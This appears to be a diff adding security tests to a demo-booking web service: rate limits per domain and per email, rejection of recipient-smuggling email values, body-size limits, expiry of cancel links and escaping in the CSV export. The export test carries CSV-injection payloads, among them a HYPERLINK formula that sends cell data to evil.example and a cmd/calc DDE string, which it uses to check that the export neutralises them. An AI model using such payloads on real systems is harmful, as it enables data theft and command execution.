@@ -1,7 +1,10 @@
+import { parse as parseCsv } from "csv-parse/sync";
 import { eq } from "drizzle-orm";
 import type { FastifyInstance } from "fastify";
 import { afterEach, describe, expect, it } from "vitest";
+import type { AuditEntry } from "../../common/audit";
 import type { DemoRequest } from "../../common/demo";
+import { demoMessages } from "../../common/demo-rules";
 import { demoRequests, emailVerifications, outbox } from "../../server/db/schema";
 import { rateLimitPolicies } from "../../server/http/rate-limit";
 import { codeLifetimeMs, maxWrongTries, resendCooldownMs, verifiedForMs } from "../../server/modules/demo/verification";
@@ -41,7 +44,7 @@ describe.each(engines)("demo booking on %s", (engine) => {
   async function latestCode(app: FastifyInstance, email: string): Promise<string> {
     const rows = await app.services.outbox.latest({ limit: 500 });
     const message = rows.find((row) => row.to === email && row.subject.includes("verification code"));
-    const code = message?.subject.match(/(\d{6})$/)?.[1];
+    const code = message?.text.match(/^\s*(\d{6})\s*$/m)?.[1];
     if (!code) throw new Error(`no code was sent to ${email}`);
     return code;
   }
@@ -190,16 +193,93 @@ describe.each(engines)("demo booking on %s", (engine) => {
       expect(eleventh.json().message).toMatch(/^Too many codes were requested from your network/);
     });
 
-    it("stops every send once the site's daily cap is reached", async () => {
-      // At this scale the daily cap is 10 while each address and client may still send one.
-      await start({ env: { RATE_LIMIT_SCALE: "0.005" } });
-      for (let send = 1; send <= 10; send++) {
-        const response = await post("/api/schedule-demo/send-verification-code", { email: `d${send}@example.com` });
+    it("caps sends per email domain, so a catch-all domain cannot take every code; other domains go on", async () => {
+      // At this scale the per-domain cap is 5 an hour while each address and client may still send one.
+      await start({ env: { RATE_LIMIT_SCALE: "0.05" } });
+      for (let send = 1; send <= 5; send++) {
+        const response = await post("/api/schedule-demo/send-verification-code", {
+          email: `d${send}@catch-all.example`,
+        });
         expect(response.statusCode).toBe(200);
       }
-      const over = await post("/api/schedule-demo/send-verification-code", { email: "d11@example.com" });
+      const over = await post("/api/schedule-demo/send-verification-code", { email: "d6@Catch-All.example" });
       expect(over.statusCode).toBe(429);
-      expect(over.json().message).toMatch(/^We cannot send more codes today/);
+      expect(over.json().message).toMatch(/^Too many codes were requested for addresses at this domain/);
+      expect(
+        (await post("/api/schedule-demo/send-verification-code", { email: "d6@elsewhere.example" })).statusCode,
+      ).toBe(200);
+    });
+
+    it("refuses what nodemailer would deliver to someone else as an invalid email, and sends nothing", async () => {
+      await start();
+      for (const email of [
+        "a,victim@x.com",
+        "victim@x.com,",
+        "x<victim@x.com>",
+        "(c)victim@x.com",
+        "victim@x.com (c)",
+      ]) {
+        const response = await post("/api/schedule-demo/send-verification-code", { email });
+        expect(response.statusCode, email).toBe(400);
+        expect(response.json(), email).toEqual({
+          message: "Please enter a valid email",
+          errors: { email: "Please enter a valid email" },
+        });
+      }
+      expect(await t.app.services.outbox.latest()).toEqual([]);
+    });
+
+    it("counts one mailbox once: the per-email limit ignores case", async () => {
+      await start();
+      for (const email of ["Victim@Example.com", "VICTIM@example.com", "victim@EXAMPLE.COM"]) {
+        expect((await post("/api/schedule-demo/send-verification-code", { email })).statusCode).toBe(200);
+        t.clock.advance(resendCooldownMs);
+      }
+      expect(
+        (await post("/api/schedule-demo/send-verification-code", { email: "victim@example.com" })).statusCode,
+      ).toBe(429);
+    });
+
+    it("checks the per-address limit first: requests it refuses count against no email address", async () => {
+      await start();
+      const client = "203.0.113.90";
+      for (let send = 1; send <= rateLimitPolicies.codeSendPerAddress.max; send++) {
+        await post("/api/schedule-demo/send-verification-code", { email: `filler${send}@example.com` }, client);
+      }
+      for (let attempt = 0; attempt < 5; attempt++) {
+        const refused = await post(
+          "/api/schedule-demo/send-verification-code",
+          { email: "target@example.com" },
+          client,
+        );
+        expect(refused.json().message).toMatch(/^Too many codes were requested from your network/);
+      }
+      // The owner of the address, elsewhere, still has all three sends of the hour.
+      for (let send = 1; send <= rateLimitPolicies.codeSendPerEmail.max; send++) {
+        expect(
+          (await post("/api/schedule-demo/send-verification-code", { email: "target@example.com" })).statusCode,
+        ).toBe(200);
+        t.clock.advance(resendCooldownMs);
+      }
+    });
+
+    it("answers an oversized body 413 unread, and a long hostile address 400, on every public form", async () => {
+      await start();
+      const probe = `a@${".".repeat(100_000)} x`;
+      const nearLimit = `a@${".".repeat(7_000)} x`;
+      for (const url of [
+        "/api/schedule-demo/send-verification-code",
+        "/api/schedule-demo/verify-code",
+        "/api/schedule-demo",
+        "/api/contact",
+      ]) {
+        const huge = await post(url, { email: probe, code: "123456", name: "x", message: "x" });
+        expect(huge.statusCode, url).toBe(413);
+        expect(huge.json(), url).toEqual({ message: "The request body is too large" });
+        const long = await post(url, { email: nearLimit, code: "123456", name: "x", message: "x" });
+        expect(long.statusCode, url).toBe(400);
+        expect(long.json().errors?.email, url).toBe("Email must be at most 254 characters");
+      }
     });
   });
 
@@ -315,6 +395,28 @@ describe.each(engines)("demo booking on %s", (engine) => {
       expect(demoMail).toHaveLength(2);
     });
 
+    it("refuses a sixth demo still to come for one email domain, with a message saying why", async () => {
+      await start({ env: { RATE_LIMIT_SCALE: "0" } });
+      const times = ["09:00", "09:30", "10:00", "10:30", "11:00", "11:30"];
+      for (const [index, time] of times.slice(0, 5).entries()) {
+        const email = `person${index}@acme.example`;
+        await verifyEmail(email);
+        expect((await post("/api/schedule-demo", booking({ email, time }))).statusCode).toBe(201);
+      }
+      await verifyEmail("sixth@acme.example");
+      const sixth = await post("/api/schedule-demo", booking({ email: "Sixth@ACME.example", time: "11:30" }));
+      expect(sixth.statusCode).toBe(409);
+      expect(sixth.json()).toEqual({
+        message:
+          "Your company already has several demos booked with us. Please contact us to arrange another, or cancel one you no longer need.",
+      });
+      expect(await slots(openDay)).toContain("11:30");
+      await verifyEmail("someone@other.example");
+      expect(
+        (await post("/api/schedule-demo", booking({ email: "someone@other.example", time: "11:30" }))).statusCode,
+      ).toBe(201);
+    });
+
     it("silently keeps spam out: a filled honeypot or a form sent too fast is stored, not booked, not emailed", async () => {
       await start();
       await verifyEmail("anita@hooghly.example");
@@ -394,6 +496,49 @@ describe.each(engines)("demo booking on %s", (engine) => {
       expect(twice.json().message).toBe("This demo was already cancelled.");
     });
 
+    it("the emailed cancel link stops working once staff mark the demo done, or its time has passed", async () => {
+      await start({ env: { RATE_LIMIT_SCALE: "0" } });
+      const cancelLinkOf = async (email: string) => {
+        const rows = await t.app.services.outbox.latest();
+        const confirmation = rows.find((row) => row.to === email && row.subject.startsWith("Your Aster HRMS demo"));
+        const link = new URL(confirmation?.text.match(/https?:\/\/\S+\/schedule-demo\/cancel\/\S+/)?.[0] ?? "");
+        return { id: link.pathname.split("/").at(-1), signature: link.searchParams.get("signature") };
+      };
+      for (const [email, time] of [
+        ["done@example.com", "10:00"],
+        ["late@example.com", "10:30"],
+      ] as const) {
+        await verifyEmail(email);
+        expect((await post("/api/schedule-demo", booking({ email, time }))).statusCode).toBe(201);
+      }
+      const closed = { message: demoMessages.cancelClosed };
+
+      const done = await cancelLinkOf("done@example.com");
+      const token = await signIn(t.app);
+      const marked = await t.app.inject({
+        method: "PATCH",
+        url: `/api/schedule-demo/${done.id}`,
+        headers: { "x-auth-token": token },
+        payload: { status: "done" },
+      });
+      expect(marked.statusCode).toBe(200);
+      const afterDone = await post(`/api/schedule-demo/${done.id}/cancel`, { signature: done.signature });
+      expect(afterDone.statusCode).toBe(409);
+      expect(afterDone.json()).toEqual(closed);
+
+      const late = await cancelLinkOf("late@example.com");
+      t.clock.advance(24 * 3_600_000); // Tuesday 14:30 in Kolkata: the 10:30 demo is over.
+      const afterSlot = await post(`/api/schedule-demo/${late.id}/cancel`, { signature: late.signature });
+      expect(afterSlot.statusCode).toBe(409);
+      expect(afterSlot.json()).toEqual(closed);
+
+      const rows = await t.database.db.select().from(demoRequests);
+      expect(rows.map((row) => [row.email, row.status]).sort()).toEqual([
+        ["done@example.com", "done"],
+        ["late@example.com", "new"],
+      ]);
+    });
+
     it("books while the mail server is down, and sends every queued email exactly once when it is back", async () => {
       const port = await freePort();
       await start({ env: { SMTP_URL: `smtp://127.0.0.1:${port}` } });
@@ -442,6 +587,31 @@ describe.each(engines)("demo booking on %s", (engine) => {
   });
 
   describe("back office", () => {
+    it("exports visitors' text as text: a company that is a formula does not run in a spreadsheet", async () => {
+      await start({ env: { RATE_LIMIT_SCALE: "0" } });
+      const formula = '=HYPERLINK("https://evil.example/?d="&D2:D500,"Open")';
+      await verifyEmail("formula@example.com");
+      const booked = await post(
+        "/api/schedule-demo",
+        booking({ email: "formula@example.com", company: formula, name: "@SUM(1+1)", utmSource: "+cmd|' /C calc'!A0" }),
+      );
+      expect(booked.statusCode).toBe(201);
+      const token = await signIn(t.app);
+      const exported = await t.app.inject({
+        method: "GET",
+        url: "/api/schedule-demo/export.csv",
+        headers: { "x-auth-token": token },
+      });
+      expect(exported.statusCode).toBe(200);
+      const [header, row] = parseCsv(exported.body) as string[][];
+      const cell = (name: string) => row?.[header?.indexOf(name) ?? -1];
+      // A leading apostrophe makes Excel and Sheets show the cell as the text it is.
+      expect(cell("Company")).toBe(`'${formula}`);
+      expect(cell("Name")).toBe("'@SUM(1+1)");
+      expect(cell("UTM source")).toBe("'+cmd|' /C calc'!A0");
+      expect(cell("Email")).toBe("formula@example.com");
+    });
+
     it("lists requests for a signed-in admin only, with paging, sorting and a total, and deletes one", async () => {
       await start({ env: { RATE_LIMIT_SCALE: "0" } });
       for (const [index, time] of ["09:00", "09:30", "10:00"].entries()) {
@@ -477,6 +647,16 @@ describe.each(engines)("demo booking on %s", (engine) => {
         headers: { "x-auth-token": token },
       });
       expect(removed.json()).toEqual({ message: "Demo request deleted" });
+      // The person's details leave with the request: the audit log keeps whose it was, not who.
+      const [entry] = (
+        await t.app.inject({
+          method: "GET",
+          url: "/api/admin/audit?entity=demo_request",
+          headers: { "x-auth-token": token },
+        })
+      ).json<AuditEntry[]>();
+      expect(entry).toMatchObject({ action: "delete", entityId: id, before: { company: "Company 2" } });
+      expect(JSON.stringify(entry)).not.toMatch(/list2@example\.com|98300/);
       expect(await slots(openDay)).toContain("10:00");
       const again = await t.app.inject({
         method: "DELETE",
